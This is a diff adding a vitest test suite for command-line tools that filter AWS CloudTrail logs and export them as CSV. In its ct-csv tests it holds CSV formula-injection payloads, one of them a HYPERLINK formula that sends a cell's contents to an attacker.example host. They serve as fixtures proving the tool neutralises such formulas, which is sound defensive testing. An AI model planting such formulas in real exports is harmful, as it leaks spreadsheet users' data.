@@ -1,0 +1,189 @@
+// The bins as a user runs them: real `sh -c` pipes over the corpus and the bundled sample.
+import { describe, expect, test } from 'vitest';
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { lines, ROOT, SAMPLE, sh, tempDir } from '../helpers';
+
+describe('the seed cases over the corpus', () => {
+  test('errorCode contains Denied, straight from LookupEvents items with no explode step', async () => {
+    const r = await sh(`ct-where errorCode~Denied < converted/lookup-events.ndjson | ct-csv -f errorCode --no-header | sort -u`);
+    expect(lines(r.stdout)).toEqual(['AccessDenied', 'VpceAccessDenied']);
+    expect(r.code).toBe(0);
+  });
+
+  test('events from one source address', async () => {
+    const r = await sh(`ct-where sourceIPAddress=1.2.3.4 < converted/lookup-events.ndjson | ct-csv -f sourceIPAddress --no-header | sort -u`);
+    expect(lines(r.stdout)).toEqual(['1.2.3.4']);
+  });
+
+  test('user name AND source address, as two arguments', async () => {
+    const r = await sh(`ct-where userIdentity.userName=tester sourceIPAddress=111.111.111.111 < converted/records.ndjson | ct-csv -f user,sourceIPAddress --no-header | sort -u`);
+    expect(lines(r.stdout)).toEqual(['tester,111.111.111.111']);
+  });
+
+  test('failed console logins, including those with no errorCode', async () => {
+    const r = await sh(`ct-where 'eventName=ConsoleLogin and responseElements.ConsoleLogin=Failure' < converted/lookup-events.ndjson | ct-csv -f errorCode,errorMessage --no-header`);
+    expect(lines(r.stdout)).toHaveLength(15);
+    expect(r.stdout).toContain(',Failed authentication');
+  });
+
+  test('failed SwitchRole: none in the corpus, and the sample has them', async () => {
+    const expr = "'eventName=SwitchRole and responseElements.SwitchRole=Failure'";
+    expect((await sh(`ct-where -c ${expr} < converted/lookup-events.ndjson`)).stdout).toBe('0\n');
+    const r = await sh(`ct-where ${expr} -- ${SAMPLE} | ct-csv -f eventName,responseElements.SwitchRole --no-header | sort -u`);
+    expect(lines(r.stdout)).toEqual(['SwitchRole,Failure']);
+  });
+});
+
+describe('ct-where', () => {
+  test('writes matching NDJSON lines byte for byte', async () => {
+    const input = '{"eventName":"A",  "x":1}\n{"eventName":"B"}\n';
+    expect((await sh('ct-where eventName=A', { input })).stdout).toBe('{"eventName":"A",  "x":1}\n');
+  });
+
+  test('writes events from a JSON document as compact lines', async () => {
+    const input = JSON.stringify({ Records: [{ eventName: 'A' }, { eventName: 'B' }] }, null, 2);
+    expect((await sh('ct-where eventName=B', { input })).stdout).toBe('{"eventName":"B"}\n');
+  });
+
+  test('-v inverts and -c counts', async () => {
+    const input = '{"eventName":"A"}\n{"eventName":"B"}\n{"eventName":"C"}\n';
+    expect((await sh('ct-where -v eventName=A', { input })).stdout).toBe('{"eventName":"B"}\n{"eventName":"C"}\n');
+    expect((await sh('ct-where -c eventName~[AB]', { input })).stdout).toBe('2\n');
+  });
+
+  test('reports a bad line as file:line, keeps going, and exits 1', async () => {
+    const dir = tempDir();
+    writeFileSync(path.join(dir, 'e.ndjson'), '{"eventName":"A"}\n{"eventName":"A", oops}\n{"eventName":"A"}\n{"eventName":"B", "x": [1,\n');
+    const r = await sh('ct-where eventName=A -- e.ndjson', { cwd: dir });
+    expect(lines(r.stdout)).toHaveLength(2);
+    expect(lines(r.stderr)).toHaveLength(2);
+    expect(lines(r.stderr)[0]).toMatch(/^ct-where: e\.ndjson:2: invalid JSON: /);
+    expect(lines(r.stderr)[1]).toMatch(/^ct-where: e\.ndjson:4: invalid JSON: /);
+    expect(r.code).toBe(1);
+  });
+
+  test('--strict stops at the first bad line', async () => {
+    const r = await sh('ct-where --strict eventName=A', { input: '{"eventName":"A"}\n{"eventName":"A" nope}\n{"eventName":"A"}\n' });
+    expect(r.stdout).toBe('{"eventName":"A"}\n');
+    expect(r.stderr).toContain('stdin:2: invalid JSON');
+    expect(r.code).toBe(1);
+  });
+
+  test('reports a malformed CloudTrailEvent like a bad line', async () => {
+    const input = '{"EventId":"1","CloudTrailEvent":"{not json"}\n';
+    const r = await sh("ct-where 'errorCode exists'", { input });
+    expect(r.stderr).toMatch(/^ct-where: stdin:1: CloudTrailEvent is not valid JSON/);
+    expect(r.code).toBe(1);
+  });
+
+  test('shows a syntax error with a caret under the position and exits 2', async () => {
+    const r = await sh(`ct-where 'eventName=A and (errorCode~x'`);
+    expect(r.stderr).toBe(
+      `ct-where: expression error at position 29: expected ')'\n  eventName=A and (errorCode~x\n  ${' '.repeat(28)}^\n`,
+    );
+    expect(r.code).toBe(2);
+  });
+
+  test('warns about an unknown field name and suggests the right one', async () => {
+    const r = await sh('ct-where errorcode~Denied < converted/records.ndjson');
+    expect(r.stderr).toBe("ct-where: warning: no CloudTrail event has a field 'errorcode'; did you mean 'errorCode'?\n");
+    expect(r.code).toBe(0);
+  });
+
+  test('an unknown option is a usage error with exit 2', async () => {
+    const r = await sh('ct-where --bogus x=1');
+    expect(r.stderr).toContain('ct-where: Unknown argument: bogus');
+    expect(r.code).toBe(2);
+  });
+
+  test('| head -1 exits quietly and stops reading an endless input', async () => {
+    const line = '{"eventName":"A","readOnly":true}';
+    const r = await sh(`yes '${line}' | { ct-where readOnly=true; echo "status=$?" >&2; } | head -1`);
+    expect(r.stdout).toBe(`${line}\n`);
+    expect(r.stderr).toBe('status=0\n');
+  }, 20000);
+});
+
+describe('ct-explode', () => {
+  test('turns LookupEvents items into their records and passes records through', async () => {
+    const r = await sh('ct-explode converted/lookup-events.ndjson | jq -cS . | sort > /tmp/ct-x1; jq -cS . converted/records.ndjson | sort | cmp - /tmp/ct-x1 && echo same');
+    expect(r.stdout).toBe('same\n');
+  });
+
+  test('reads AWS CLI output with numeric EventTime and keeps lookup fields on request', async () => {
+    const r = await sh('ct-explode --keep-lookup aws-cloudtrail-user-guide/view-cloudtrail-events-cli.L57.json | jq -c "[.eventName, .Username]"');
+    expect(r.stdout).toBe('["ConsoleLogin","root"]\n');
+    expect(r.code).toBe(0);
+  });
+
+  test('reads Insights events that lookup-events printed as plain records', async () => {
+    const r = await sh('ct-explode aws-cloudtrail-user-guide/view-insights-events-cli.L56.json | jq -r .eventType | sort -u');
+    expect(r.stdout).toBe('AwsCloudTrailInsight\n');
+  });
+
+  test('reports an item without CloudTrailEvent and exits 1', async () => {
+    const r = await sh('ct-explode', { input: '{"EventId":"x","EventName":"A"}\n{"eventName":"B"}\n' });
+    expect(r.stdout).toBe('{"eventName":"B"}\n');
+    expect(r.stderr).toBe('ct-explode: stdin:1: LookupEvents item has no CloudTrailEvent\n');
+    expect(r.code).toBe(1);
+  });
+});
+
+describe('ct-csv', () => {
+  const hostile = { eventName: 'A', userAgent: '=HYPERLINK("http://x.example","y")', errorMessage: '+1', requestParameters: { a: [1, 2] } };
+
+  test('neutralises formulas by default and keeps them with --no-escape-formulas', async () => {
+    const input = `${JSON.stringify(hostile)}\n`;
+    const safe = await sh('ct-csv -f userAgent,errorMessage --no-header', { input });
+    expect(safe.stdout).toBe(`"'=HYPERLINK(""http://x.example"",""y"")",'+1\n`);
+    const raw = await sh('ct-csv -f userAgent --no-header --no-escape-formulas', { input });
+    expect(raw.stdout).toBe('"=HYPERLINK(""http://x.example"",""y"")"\n');
+  });
+
+  test('neutralises the hostile userAgent in the sample', async () => {
+    const r = await sh(`ct-where 'userAgent^==' -- ${SAMPLE} | ct-csv -f userAgent --no-header | sort -u`);
+    expect(lines(r.stdout)).toEqual([`"'=HYPERLINK(""http://attacker.example/x?d=""&A1,""Click for details"")"`]);
+  });
+
+  test('--excel writes a BOM and CRLF, and Japanese text survives', async () => {
+    const r = await sh('ct-csv --excel -f user,eventName | od -c | head -2', { input: '{"userIdentity":{"userName":"田中"},"eventName":"X"}\n' });
+    expect(r.stdout).toMatch(/^0000000 357 273 277/);
+    const text = await sh('ct-csv --excel -f user,eventName', { input: '{"userIdentity":{"userName":"田中"},"eventName":"X"}\n' });
+    expect(text.stdout).toBe('\uFEFFuser,eventName\r\n田中,X\r\n');
+  });
+
+  test('--tsv, --no-header, objects as compact JSON, the default columns', async () => {
+    expect((await sh("ct-csv --tsv --no-header -f eventName,requestParameters", { input: `${JSON.stringify(hostile)}\n` })).stdout).toBe(
+      'A\t"{""a"":[1,2]}"\n',
+    );
+    const header = (await sh(`ct-csv < converted/records.ndjson | head -1`)).stdout;
+    expect(header).toBe('eventTime,eventSource,eventName,awsRegion,sourceIPAddress,userIdentity.arn,user,errorCode,errorMessage,eventID,readOnly\n');
+  });
+
+  test('--tz renders times in the zone, and an unknown zone is a usage error', async () => {
+    const input = '{"eventTime":"2024-07-22T00:00:00Z"}\n{"EventTime":1424476529.0,"CloudTrailEvent":"{}"}\n';
+    expect((await sh('ct-csv --tz Asia/Tokyo -f eventTime,EventTime --no-header', { input })).stdout).toBe(
+      '2024-07-22T09:00:00+09:00,\n,2015-02-21T08:55:29+09:00\n',
+    );
+    const bad = await sh('ct-csv --tz Mars/Olympus', { input });
+    expect(bad.stderr).toContain("ct-csv: --tz: unknown time zone 'Mars/Olympus'");
+    expect(bad.code).toBe(2);
+  });
+});
+
+describe('every command', () => {
+  test.each(['ct-where', 'ct-explode', 'ct-csv'])('%s --help shows examples and the exit codes', async (name) => {
+    const r = await sh(`${name} --help`);
+    expect(r.stdout).toContain('Examples:');
+    expect(r.stdout).toContain('Exit status: 0 ok; 1 bad data');
+    expect(r.code).toBe(0);
+  });
+
+  test('the demo runs the pipeline over the sample and prints a CSV', async () => {
+    const r = await sh('npm run --silent demo', { cwd: ROOT });
+    expect(lines(r.stdout)[0]).toBe('eventTime,eventName,user,sourceIPAddress,errorCode');
+    expect(lines(r.stdout).length).toBeGreaterThan(1);
+    expect(r.code).toBe(0);
+  }, 20000);
+});
